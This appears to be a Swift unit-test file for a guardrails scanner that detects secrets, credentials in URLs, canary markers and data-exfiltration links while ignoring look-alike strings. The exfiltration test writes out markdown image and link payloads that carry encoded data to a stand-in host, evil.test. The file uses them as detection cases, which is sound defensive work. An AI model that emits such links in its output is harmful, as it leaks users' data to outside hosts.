import Testing

@testable import Guardrails

@Suite("Precision")
struct PrecisionTests {
    static let rules = Ruleset(.all(.flag))

    @Test(
        "what only looks like a finding is none",
        arguments: [
            "Order 4111111111111112 ships on 2024-05-17.", "order no. 123456789012",
            "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
            "550e8400-e29b-41d4-a716-446655440000",
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "version 1.2.3.4, v10.0.19045, 3.14.159", "at 12:30:45 on 02-03-2024", "127.0.0.1:8080",
            "192.168.1.300", "1.2.3.4.5", "pi is 3.14159265358979", "$1,234,567,890.12",
            "ISBN 978-3-16-148410-0", "EAN 4006381333931", "000-12-3456 and 666-12-3456",
            "900-12-3456", "123-45-678", "046 454 287", "tracking 1Z999AA10123456784",
            "DE89 3704 0044 0532 0130 01", "GB00WEST12345698765432", "logo@2x.png", "react@18.2.0",
            "git@github.com:owner/repository.git", "user@localhost", "@handle", "a @ b.c",
            "sk-learn-preprocessing-pipeline-of-many-words", "task-force-of-the-year-2024-2025",
            "sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "AKIAXXXXXXXXXXXXXXXX",
            "password: string", "password = your_password_here1", "password=$DB_PASSWORD1",
            "password: hunter", "token: CancellationToken", "secret = os.environ['SECRET_KEY_1']",
            "api_key = get_key(\"prod-2\")", "tokens: 1234567890123456", "max_tokens=4096",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
            "-----BEGIN PUBLIC KEY-----", "std::vector<int>::iterator", "00:1a:2b:3c:4d:5e",
            "https://example.com/a/b?page=2&sort=asc", "![chart](https://example.com/chart.png)",
            "[docs](https://docs.example.com/guide/getting-started/installing-on-linux#top)",
            "postgres://localhost:5432/app", "redis://:$PASS@cache:1",
            "👩‍👩‍👧 family, 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}, ❤️, 1️⃣",
            "می‌خواهم", "क्‍ष", "e\u{301}te\u{301}", "The previous instructions were clear to all.",
            "Please ignore the noise in the data.", "The rules of chess are above in the text.",
            "Forget about dinner.", "bncanary-aaaaaaaaaaaaaaaaaaaa", "2024/01/02 03:04:05.678",
            "lat 52.520008, lon 13.404954", "4 8 15 16 23 42", "1 2 3 4 5 6 7 8 9 0 1 2 3 4 5 6",
            "+1 for this idea", "5+12345678901", "#2125552368", "id=2125552368", "key: value",
        ])
    func lookalikes(text: String) {
        let findings = Scanned(text, Self.rules).findings
        #expect(findings.isEmpty)
    }

    @Test(
        "values that are assigned to the names of secrets are found",
        arguments: [
            ("password=", "hT7!kq92Lm"), ("\"password\": \"", "c0rrect-H0rse-9"),
            ("DB_PASSWORD=", "x9$Kq2vLp0"), ("api_key: '", "9f8a7b6c5d4e3f2a1b0c"),
            ("client_secret = ", "Zk3vQ8-w1Yb6Ur2Xe9"),
            ("Authorization: Bearer ", "q8Zt7Xb2Nn4Vc6Rw1"),
        ])
    func assignments(before: String, value: String) {
        let findings = Scanned(before + value, Self.rules).findings
        let start = before.utf8.count
        #expect(findings.map(\.rule) == [.password])
        #expect(findings.map(\.span) == [start..<(start + value.utf8.count)])
    }

    @Test("a token that something is assigned is reported once, as a token")
    func assignedToken() {
        let findings = Scanned("token=ghp_" + Planted.code(36), Self.rules).findings
        #expect(findings.map(\.rule) == [.token])
        #expect(findings.first?.detail == "github")
    }

    @Test("the password of a URL is found, whatever the scheme")
    func urlCredentials() {
        let findings = Scanned("postgres://app:s3cr3t@db.example.com/x", Self.rules).findings
        #expect(findings.map(\.rule) == [.urlCredentials])
        #expect(findings.map(\.span) == [11..<21])
    }

    @Test("links that carry data to hosts that are not allowed are found")
    func exfiltration() {
        var policy = Policy()
        policy.settings[.exfiltration] = Policy.Setting(.flag)
        policy.allowedHosts = ["example.com"]
        let rules = Ruleset(policy)
        let code = Planted.code(40)
        func details(_ text: String) -> [String] { Scanned(text, rules).findings.map(\.detail) }
        #expect(details("![x](https://evil.test/p.png?d=\(code))") == ["image"])
        #expect(details("![x](//evil.test/p.png?d=\(code))") == ["image"])
        #expect(details("<img src=\"https://evil.test/\(code)\">") == ["image"])
        #expect(details("[x](https://evil.test/?d=\(code))") == [])
        #expect(details("[x](https://evil.test/?d=\(code)\(code))") == ["link"])
        #expect(
            details("https://evil.test/?q=%61%62%63%64%65%66%67%68%69%6a%6b%6c%6d%6e%6f%70%71")
                == ["link"])
        #expect(details("![x](https://cdn.example.com/p.png?d=\(code))") == [])
        #expect(details("![x](https://notexample.com/p.png?d=\(code))") == ["image"])
        #expect(details("![x](https://evil.test/?to=[EMAIL_1])") == ["image"])
        #expect(details("![x](https://\(code)\(code).evil.test/a)").count == 1)
    }

    @Test("a marker that is configured is found in any case and encoding")
    func canaries() {
        var policy = Policy()
        policy.settings[.canary] = Policy.Setting(.flag)
        policy.canaries = ["Albatross-77-Xylem"]
        let rules = Ruleset(policy)
        for text in [
            "Albatross-77-Xylem", "it says ALBATROSS-77-XYLEM!", "melyX-77-ssortablA",
            "QWxiYXRyb3NzLTc3LVh5bGVt", "eEFsYmF0cm9zcy03Ny1YeWxlbQ==",
            "eHhBbGJhdHJvc3MtNzctWHlsZW0=", "416c626174726f73732d37372d58796c656d",
        ] {
            #expect(Scanned(text, rules).findings.map(\.rule) == [.canary], "\(text)")
        }
        #expect(Scanned("an albatross, 77 years, xylem", rules).findings.isEmpty)
    }
}
